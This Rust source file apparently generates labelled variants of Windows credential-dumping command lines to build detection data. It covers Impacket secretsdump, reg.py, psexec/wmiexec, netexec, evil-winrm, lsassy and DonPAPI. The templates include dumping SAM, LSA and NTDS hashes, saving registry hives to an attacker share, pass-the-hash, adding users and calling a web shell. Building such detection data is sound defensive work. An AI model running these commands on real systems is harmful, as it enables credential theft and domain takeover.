//! Impacket's scripts and netexec: what they dump, and what else they do.

use crate::generate::family::{Family, Kind::Sh};

const SECRETS: &[&str] = &[
    r"{sd} {target}« {impauth}»« {more}»",
    r"{sd} {impauth} {target}« {more}»",
    r"{sd} {more} {target}",
    r"{sd} ⟦{target}¦{impauth}¦«{more}»¦«-outputfile {shout}»⟧",
    r"{sd} ⟦'{domain}/{user}:{password}@{rhost}'¦«-dc-ip {ip}»¦«-debug»⟧« | tee {shout}¦ > {shout}»",
    r"proxychains«4»« -q»« -f {stem}.conf» {sd} {target} {impauth}",
    r"KRB5CCNAME={user}.ccache {sd} -k -no-pass {fqdn}« {more}»",
    r"export KRB5CCNAME={shdir}/{user}.ccache«⏎¦; ¦ && »{sd} -k -no-pass «{domain}/{user}@¦»{fqdn}",
    r"faketime -f '+{1..9}h' {sd} {target}",
    concat!(
        r"for {lv.1} in $(cat hosts.txt); do {sd} {user}:{password}@${lv.1}«; done¦ >> ",
        r"{shout}; done»",
    ),
    r"{sd} {domain}/{user}@{rhost} -hashes {hashes}« {more}»",
    concat!(
        r"{sd} -hashes {hashes} «{domain}/¦»{user}@{rhost}«⏎Impacket v0.{9..12}.0 - Copyright ",
        r"20{20..24} SecureAuth Corporation»",
    ),
];
/// As manuals and cheat sheets write it, in every quoting.
const SECRETS_NOTED: &[&str] = &[
    "{sd} {t}« {o}»",
    "{sd} {o} {t}",
    "{sd} -k« -no-pass» «'{T}'¦{T}¦\"{T}\"»« {o}»",
    "{sd} -k« -no-pass» {a}« -dc-ip {T}»",
    "{sd} -hashes {h} {a}« {o}»",
    "{sd} {a} -hashes {h}",
    "{sd} -k -hashes {h} {a}",
    "{sd} -aesKey «$KEY¦<key>¦{hex64}»« -k» {a}",
    "proxychains« -q» {sd} -no-pass {a}",
];
const NOTED_DC: &[&str] = &[
    "{sdo} {dc} «{t}¦-hashes {h} {a}¦-k -no-pass {T}¦-aesKey {hex64} {a}»",
    "{sdo} «{t}¦-hashes {h} {a}¦-k {T}» {dc}",
    "proxychains« -q» {sdo} {dc} {t}",
];
const NOTED: &[(&str, &str)] = &[
    ("sd", SD),
    ("sdo", SDONLY),
    ("dc", "«-just-dc¦-just-dc-ntlm¦-just-dc-user «krbtgt¦{U}»¦-just-dc -outputfile {shout}»"),
    ("D", "«DOMAIN¦$DOMAIN¦<domain>¦<DOMAIN>¦domain.local¦DOMAIN.LOCAL¦{domain}¦${DOMAIN}¦[domain]¦domain»"),
    ("U", "«USER¦$USER¦<user>¦<USERNAME>¦username¦USERNAME¦{user}¦${USER}¦[user]¦user¦Administrator¦user1»"),
    ("P", "«PASSWORD¦$PASSWORD¦<password>¦<PASSWORD>¦Password123¦{password}¦${PASSWORD}¦[pass]¦password»"),
    (
        "T",
        "«TARGET¦$TARGET¦<target>¦<ip>¦<RHOST>¦IP¦{rhost}¦${TARGET}¦[ip]¦<TARGET FQDN>¦$RELAYED_VICTIM¦$IP¦<target-ip>»",
    ),
    (
        "h",
        concat!(
            "«':NThash'¦'LMhash:NThash'¦:NThash¦\":$NT_HASH\"¦:<NTHASH>¦<LM>:<NT>¦LMHASH:NTHASH¦$LM:$NT¦",
            "\"ffffffffffffffffffffffffffffffff:$NT_HASH\"¦:{nthash}¦{hashes}¦':$HASH'¦:$hash»",
        ),
    ),
    ("o", MOREPOS),
    (
        "t",
        concat!(
            "«{D}/{U}:{P}@{T}¦'{D}/{U}:{P}@{T}'¦\"{D}/{U}:{P}@{T}\"¦{U}:{P}@{T}¦'{U}:{P}@{T}'¦'{D}/{U}:{P}'@'{T}'¦",
            "'{D}'/'{U}':'{P}'@'{T}'¦\"{D}\"/\"{U}\":\"{P}\"@\"{T}\"¦{D}/{U}@{T}¦'{D}/{U}@{T}'¦{D}/{U}:'{P}'@{T}»",
        ),
    ),
    ("a", "«{D}/{U}@{T}¦'{D}/{U}@{T}'¦\"{D}/{U}@{T}\"¦{U}@{T}¦'{D}/{U}'@'{T}'¦$DOMAIN/$USER@$TARGET»"),
];
const SD: &str = concat!(
    "«secretsdump.py¦secretsdump.py¦impacket-secretsdump¦impacket-secretsdump¦{python} ",
    "{impketdir}secretsdump.py¦{impketdir}secretsdump.py¦secretsdump.exe¦.\\secretsdump.exe¦",
    "secretsdump¦secretsdump_windows.exe¦./secretsdump¦Secretsdump.py¦SecretsDump.py¦{python} ",
    "{impketdir}regsecrets.py¦regsecrets.py¦{python} -m impacket.examples.secretsdump¦",
    "impacket-regsecrets¦docker run --rm -it impacket secretsdump.py»",
);
const SDONLY: &str = concat!(
    "«secretsdump.py¦secretsdump.py¦impacket-secretsdump¦impacket-secretsdump¦{python} ",
    "{impketdir}secretsdump.py¦{impketdir}secretsdump.py¦secretsdump.exe¦secretsdump¦",
    "Secretsdump.py¦docker run --rm -it impacket secretsdump.py»",
);
const MOREPOS: &str = concat!(
    "«-outputfile {shout}¦-use-vss¦-exec-method «smbexec¦wmiexec¦mmcexec»¦-history¦-debug¦-use-vss ",
    "-exec-method wmiexec¦-pwd-last-set¦-user-status¦-ts¦-sam¦-o {stem}¦",
    "-use-remoteSSWMI¦-history -debug¦-remoteSS-local-path {stem}»",
);
const MORENEG: &str = concat!(
    "«-just-dc¦-just-dc-ntlm¦-just-dc-user {user}¦-just-dc-user krbtgt¦-just-dc-ntlm -just-dc-user ",
    "'{domain}/krbtgt'¦-just-dc -outputfile {shout}¦-just-dc -history¦-just-dc-ntlm -pwd-last-set ",
    "-user-status¦-just-dc-user Administrator -dc-ip {ip}¦-just-dc-user \"{plainhost}\\$\"¦",
    "-just-dc -use-vss»",
);

const NETEXEC: &[&str] = &[
    r"{nxc} smb {nxctarget} {nxcauth} {flag}",
    r"{nxc} smb {nxctarget} {flag} {nxcauth}",
    r"{nxc} smb {nxcauth} {flag} {nxctarget}",
    r"{nxc} smb ⟦{nxctarget}¦{nxcauth}¦{flag}¦«--log {stem}.log»¦«--threads {5..100}»⟧",
    r"{nxc}« -t {1..100}»« --verbose» smb {nxctarget} {nxcauth} {flag}« --continue-on-success»",
    r"{nxc} «winrm¦smb¦wmi» {nxctarget} {nxcauth} {flag}",
    r"{nxc} smb {nxctarget} {nxcauth} {flag} | tee {shout}",
    r"{nxc} smb {nxctarget} {nxcauth} {flag} {extra}",
    r"{nxc} smb «$TARGETS¦$TARGET¦${IP}¦<HOST>¦<ip>» «-u $USER -p $PASSWORD¦-d $DOMAIN -u $USER -H $NThash¦--kerberos¦--use-kcache» {flag}",
    r"{nxc} smb «<RHOST>¦$IP¦{ip}» --local-auth -u '«<USERNAME>¦${USERNAME}¦{user}»' «-p '<PASSWORD>'¦-H ${HASH}¦-H {nthash}» {flag}",
    r"for i in $(cat hosts.txt); do {nxc} smb $i {nxcauth} {flag}; done",
];

const REMOTEEXEC: &[&str] = &[
    r#"{ex} {target} «{impauth} »"{cmd}""#,
    r#"{ex} {impauth} {target} '{cmd}'"#,
    r#"{ex} -shell-type «cmd¦powershell» {target} "{cmd}""#,
    r"{ex} {target} {impauth}⏎C:\> {cmd}",
    concat!(
        r#"{nxc} «smb¦winrm¦wmi» {nxctarget} {nxcauth} -x «"{cmd}"¦'{cmd}'»« --exec-method «smbexec¦"#,
        r"atexec¦mmcexec»»",
    ),
    r#"{nxc} smb {nxctarget} {nxcauth} -X '{cmd}'"#,
    concat!(
        r"evil-winrm -i {rhost} -u {user} «-p {password}¦-H {nthash}»⏎*Evil-WinRM* PS ",
        r"C:\Users\{user}\Documents> {cmd}",
    ),
    r"*Evil-WinRM* PS C:\Users\{user}\Documents> {cmd}",
    r"*Evil-WinRM* PS C:\> {cmd}⏎*Evil-WinRM* PS C:\> download {stem}",
    r#"winexe -U '{domain}/{user}%{password}' //{rhost} 'cmd.exe /c {cmd}'"#,
    r#"pth-winexe -U {domain}/{user}%{hashes} //{rhost} "{cmd}""#,
    r#"rpcclient -U '{user}%{password}' {rhost}; {cmd}"#,
    r#"ssh {user}@{rhost} "{cmd}""#,
    r"sshpass -p {password} ssh {user}@{rhost} {cmd}",
    r#"ansible windows -m win_shell -a "{cmd}""#,
    r"ansible -i {stem}.ini all -m win_command -a '{cmd}'",
    r#"curl -s 'http://{rhost}/{stem}.«php¦aspx»?cmd={cmd}'"#,
    r#"{ex} -nooutput {target} "cmd.exe /c {cmd}""#,
    r#"dcomexec.py -object MMC20 {target} '{cmd}'"#,
];
const EX: &str = concat!(
    "«psexec.py¦wmiexec.py¦smbexec.py¦atexec.py¦dcomexec.py¦impacket-psexec¦impacket-wmiexec¦",
    "impacket-smbexec¦impacket-atexec¦{python} {impketdir}wmiexec.py¦wmiexec-pro.py¦{python} ",
    "{impketdir}atexec.py»",
);

const REGPY: &[&str] = &[
    r"{rp} {target}« {impauth}» {op}",
    r"{rp} {impauth} {target} {op}",
    r"{rp} {op} {target}",
    r"{rp} {target} {impauth} {op} -o '\\{attacker}\{share}'",
];
const RP: &str = "«reg.py¦impacket-reg¦{python} {impketdir}reg.py¦./reg.py»";

const LOCAL: &[&str] = &[
    r"{sd} {files} «LOCAL¦local¦LOCAL¦LOCAL»",
    r"{sd} {files}« -outputfile {shout}» LOCAL",
    r"{sd} LOCAL {files}",
    r"{sd} {files} LOCAL« | «tee {shout}¦grep -i «:500:¦admin»¦cut -d: -f4»¦ > {shout}»",
    r"cd {shdir} && {sd} {files} LOCAL",
    r"{sd} {files} -history LOCAL",
    r"{sd} {files}⏎ LOCAL",
];

/// The script under another name: its options tell.
const RENAMED: &[&str] = &[
    "{sd} {files} «LOCAL¦LOCAL¦local»",
    "{sd} {files} -outputfile {f} LOCAL",
    "{sd} LOCAL {files}",
    "cd {shdir}« && ¦; »{sd} {files} LOCAL",
    "{sd} {files} LOCAL« > {shout}¦ | tee {f}.txt»",
];
const RENAMED_AS: &str = concat!(
    "«{python} «./¦/tmp/¦{shdir}/¦»{stem}.py¦./{stem}.py¦{python} «{alnum4}¦{alnum6}¦{stem}_{alnum3}».py¦{shdir}/{stem}¦",
    "./{alnum5}¦{stem}.exe»",
);
const ENDING: &str = "«sv¦sav¦hiv¦hive¦bin¦dat¦bak¦save¦tmp¦out¦{alnum3}»";

pub const FAMILIES: &[Family] = &[
    Family::act("secretsdump", "secretsdump-remote", "secretsdump-just-dc", Sh, SECRETS).slots(&[("sd", SD), ("more", MOREPOS), ("lv", "«ip¦h¦host¦t»")]).weight(35),
    Family::other("secretsdump", "secretsdump-just-dc", Sh, &[
        r"{sd} {target} {impauth} {more}",
        r"{sd} {impauth} {target} {more}",
        r"{sd} {more} {target}",
        r"{sd} ⟦{target}¦{impauth}¦{more}⟧",
        r"proxychains« -q» {sd} {more} {target}",
        r"KRB5CCNAME={user}.ccache {sd} -k -no-pass {fqdn} {more}",
        r"{sd} {target} {more}« | tee {shout}¦ > {shout}»",
        r"{sd} '{domain}/{user}:{password}@{rhost}' {more}",
        r"export KRB5CCNAME={user}.ccache«⏎¦; ¦ && »{sd} -k -no-pass {more} {domain}/{user}@{fqdn}",
        r"for ip in $(cat dcs.txt); do {sd} {user}:{password}@$ip {more}; done",
        r"{sd} -h",
        r"{sd} --help | less",
        r"{sd} {more} {domain}/{user}@{rhost} -hashes {hashes}",
    ]).slots(&[("sd", SDONLY), ("more", MORENEG)]).weight(30),
    Family::act("secretsdump", "secretsdump-noted", "secretsdump-noted-dc", Sh, SECRETS_NOTED).slots(NOTED).weight(16),
    Family::other("secretsdump", "secretsdump-noted-dc", Sh, NOTED_DC).slots(NOTED).weight(10),
    Family::act("secretsdump", "secretsdump-local", "secretsdump-local-ntds", Sh, LOCAL).slots(&[("sd", SD), ("files", concat!(
            "«⟦-sam {samcopy}¦-system {syscopy}⟧¦⟦-sam {samcopy}¦-system {syscopy}¦-security ",
            "{seccopy}⟧¦⟦-sam {samcopy}¦-bootkey 0x{hex32}⟧¦-sam {samcopy} -security {seccopy} -system ",
            "{syscopy}¦⟦-sam {samcopy}¦-system {syscopy}¦-ntds {ntdscopy}⟧¦-system {syscopy} -sam ",
            "{samcopy}»",
        ))]).weight(20),
    Family::other("secretsdump", "secretsdump-local-ntds", Sh, LOCAL).slots(&[("sd", SDONLY), ("files", concat!(
            "«⟦-ntds {ntdscopy}¦-system {ks}⟧¦⟦-ntds {ntdscopy}¦-bootkey 0x{hex32}⟧¦-system ",
            "{ks} -ntds {ntdscopy}¦-ntds {ntdscopy} -system {ks} -user-status -pwd-last-set»",
        )), ("ks", "«{winsyscopy}¦{shdir}/system¦./SYSTEM¦{stem}/SYSTEM¦system.save¦registry/SYSTEM»")]).weight(16),
    Family::act("secretsdump", "secretsdump-renamed", "secretsdump-renamed-ntds", Sh, RENAMED).slots(&[("sd", RENAMED_AS), ("e", ENDING), ("files", concat!(
            "«⟦-sam {f}.{e}¦-system {f}.{e}⟧¦⟦-sam {f}.{e}¦-system {f}.{e}¦-security {f}.{e}⟧¦",
            "⟦-sam {samcopy}¦-system {syscopy}⟧¦-sam {f} -security {f} -system {f}¦-sam {f}.{e} -bootkey {hex32}»",
        )), ("f", "«{stem}¦{alnum2}¦{shdir}/{alnum3}¦./{stem}¦{alnum5}¦{1..9}»")]).weight(6),
    Family::other("secretsdump", "secretsdump-renamed-ntds", Sh, RENAMED).slots(&[("sd", RENAMED_AS), ("e", ENDING), ("files", concat!(
            "«⟦-ntds {f}.{e}¦-system {f}.{e}⟧¦⟦-ntds {ntdscopy}¦-system {syscopy}⟧¦-ntds {f} -bootkey {hex32}¦",
            "-input {f}.{e} -output {f}.{e}¦-in {f} -system {f}¦--zone {f}¦-i {f}.{e} -o {f}»",
        )), ("f", "«{stem}¦{alnum2}¦{shdir}/{alnum3}¦./{stem}¦{alnum5}¦{1..9}»")]).weight(6),
    Family::act("reg-py", "impacket-reg-hive", "impacket-reg-other", Sh, REGPY).slots(&[("rp", RP), ("op", concat!(
            r"«backup« -o '\\{attacker}\{share}'»¦save -keyName «'HKLM\{secret}'¦HKLM\\{secret}¦",
            r"'hklm\{secret}'¦HKLM\\SYSTEM» -o «'\\{attacker}\{share}'¦'C:\Windows\Temp'¦",
            r"\\\\{attacker}\\{share}»¦query -keyName «HKLM\\\\SAM¦'HKLM\SAM\SAM\Domains\Account'¦",
            r"HKLM\\SECURITY» -s»",
        ))]),
    Family::other("reg-py", "impacket-reg-other", Sh, REGPY).slots(&[("rp", RP), ("op", concat!(
            r"«query -keyName «HKLM\\SOFTWARE\\{vendor}¦'HKU'¦'HKLM\{syskey}'¦",
            r"'HKLM\SYSTEM\CurrentControlSet\Control\Lsa'»« -s¦ -v {stem}»¦save -keyName ",
            r"'HKLM\SOFTWARE' -o '\\{attacker}\{share}'¦add -keyName 'HKLM\{softkey}' -v {stem} -vd ",
            r"{1..9}¦add -keyName 'HKLM\System\CurrentControlSet\Control\Lsa' -v ",
            r"DisableRestrictedAdmin -vt REG_DWORD -vd 0¦delete -keyName 'HKCU\{stem}'¦save -keyName ",
            r"'HKU' -o C:\\temp»",
        ))]).weight(8),
    Family::act("netexec", "netexec-sam", "netexec-other", Sh, NETEXEC).slots(&[("flag", concat!(
            "«--sam¦--sam¦--sam¦--sam «regdump¦secdump»¦--sam --lsa¦--sam/--lsa¦-M backup_operator¦--sam --lsa --ntds¦--lsa --sam¦-M ",
            "hash_spider --sam¦--dump-sam¦--sam --loggedon-users»",
        )), ("extra", "«--lsa¦--shares¦--no-output¦--export {stem}¦-x whoami¦--dpapi»")]).weight(25),
    Family::other("netexec", "netexec-other", Sh, NETEXEC).slots(&[("flag", concat!(
            r"«--lsa¦--ntds¦--ntds vss¦--shares¦--users¦--groups¦--pass-pol¦--rid-brute¦--sessions¦",
            r"--loggedon-users¦--disks¦--local-groups¦--dpapi¦--laps¦--lsa secdump¦-x whoami¦-x ",
            r"'ipconfig /all'¦-X '$PSVersionTable'¦-M lsassy¦-M nanodump¦-M spider_plus¦-M enum_av¦-M ",
            r"procdump¦-M gpp_password¦-M zerologon¦--gen-relay-list relay.txt¦--spider C$ --pattern ",
            r"«txt¦sam¦config»¦--get-file \\temp\\{stem} {stem}¦--put-file {stem} \\temp\\{stem}¦",
            r"--bloodhound -c All¦--ntds --user {user}¦-M ntdsutil¦-M wdigest -o ACTION=enable¦-M wifi¦",
            r"--users sam¦--local-auth¦»",
        )), ("extra", "«--shares¦--no-output¦--export {stem}¦-x whoami¦--dpapi»")]).weight(25),
    Family::act("remote-exec", "remote-exec-hive", "remote-exec-other", Sh, REMOTEEXEC).slots(&[("ex", EX), ("cmd", concat!(
            r"«reg save {locallm}\{whole} {outfile}¦reg save HKLM\\{whole} {dir}\\{outname}¦reg export ",
            r"{locallm}\{secret} {outfile}¦reg query {locallm}\{inner}« /s»¦copy {hivefile} {outfile}¦",
            r"esentutl.exe /y /vss {hivefile} /d {outfile}¦reg.exe save hklm\sam {stem} && reg.exe ",
            r"save hklm\system {stem}»",
        ))]).weight(15),
    Family::other("remote-exec", "remote-exec-other", Sh, REMOTEEXEC).slots(&[("ex", EX), ("cmd", concat!(
            r"«whoami¦whoami /all¦ipconfig /all¦hostname¦net user {user} {password} /add¦reg save ",
            r"{otherreg} {outfile}¦reg query {otherreg} /s¦copy {otherfile} {outfile}¦esentutl.exe /y ",
            r"/vss {otherfile} /d {outfile}¦dir C:\\Users¦tasklist /svc¦net localgroup administrators¦",
            r"systeminfo¦type C:\Users\{user}\Desktop\{stem}.txt¦query user¦powershell -c Get-Service¦",
            r"cmd.exe¦net view \\{plainhost}»",
        ))]).weight(18),
    Family::other("impacket", "impacket-others", Sh, &[
        r"{i}GetUserSPNs{e} {domain}/{user}:{password} -dc-ip {ip} -request« -outputfile {shout}»",
        r"{i}GetNPUsers{e} {domain}/ -usersfile users.txt -no-pass -dc-ip {ip}",
        r"{i}getTGT{e} {domain}/{user}:{password}",
        r"{i}ticketer{e} -nthash {nthash} -domain-sid {sid} -domain {domain} {user}",
        r"{i}ntlmrelayx{e} -tf targets.txt -smb2support «-socks¦-i¦-e {stem}.exe¦-c whoami»",
        r"{i}ntlmrelayx{e} -t ldap://{ip} --no-da --escalate-user {user}",
        r"{i}smbclient{e} {target}",
        r"{i}lookupsid{e} {target}",
        r"{i}samrdump{e} {target}",
        r"{i}samrdump{e} {user}@{rhost} {impauth}",
        r"{i}rpcdump{e} {rhost}",
        r"{i}smbserver{e} {share} {shdir} -smb2support« -username {user} -password {password}»",
        r"{i}mssqlclient{e} {target} -windows-auth",
        r"{i}addcomputer{e} -computer-name '{stem}$' -computer-pass {password} {domain}/{user}:{password}",
        r"{i}findDelegation{e} {domain}/{user}:{password}",
        concat!(
            r"{i}rbcd{e} -delegate-from '{stem}$' -delegate-to '{plainhost}$' -action write ",
            r"{domain}/{user}:{password}",
        ),
        r"{i}getST{e} -spn cifs/{fqdn} -impersonate {user} {domain}/{user}",
        r"{i}dpapi{e} masterkey -file {guid} -sid {sid} -password {password}",
        r"{i}services{e} {target} list",
        r"{i}netview{e} {domain}/{user}",
        r"{i}changepasswd{e} {target} -newpass {password}",
        r"lsassy -u {user} -p {password} {rhost}",
        r"lsassy -d {domain} -u {user} -H {nthash} {cidr}« -m «comsvcs¦procdump¦dumpert»»",
        r"{i}smbpasswd{e} {user}:{password}@{rhost}",
        r"{i}GetADUsers{e} -all {domain}/{user} -dc-ip {ip}",
        r"{i}esentutl{e} {ntdscopy} tables",
        r"pip install impacket",
        r"git clone https://github.com/fortra/impacket",
        r"{i}raiseChild{e} {domain}/{user}:{password}",
        r"{i}describeTicket{e} {user}.ccache",
        r"{i}wmiquery{e} {target}",
        r"gettgtpkinit.py {domain}/{user} -pfx-base64 {stem}.b64 {user}.ccache",
    ]).slots(&[("i", "«impacket-¦¦{python} {impketdir}¦proxychains »"), ("e", "«.py¦.py¦»")]).weight(20),
    Family::act("donpapi", "donpapi-sam", "donpapi-other", Sh, &[
        concat!(
            r"«donpapi¦DonPAPI¦DonPAPI.py¦{python} DonPAPI.py» collect -u {user} -p {password} -t ",
            r"{cidr} --collectors «SAM¦sam¦SAMDump,LSA»",
        ),
        r"{python} DonPAPI.py -o {stem} --dump-sam {target}",
        r"«donpapi¦DonPAPI.py» {target} --sam",
    ]).weight(3),
    Family::other("donpapi", "donpapi-other", Sh, &[
        concat!(
            r"«donpapi¦DonPAPI¦DonPAPI.py¦{python} DonPAPI.py» collect -u {user} -p {password} -t ",
            r"{cidr} --no-remoteops",
        ),
        concat!(
            r"donpapi collect -u {user} -H {nthash} -d {domain} -t {rhost} --collectors ",
            r"«Chromium,Firefox¦Wifi¦CredMan¦VNC»",
        ),
        r"donpapi gui --port {port}",
        r"DonPAPI.py --no_sam --no_lsa {target}",
    ]).weight(3),
];
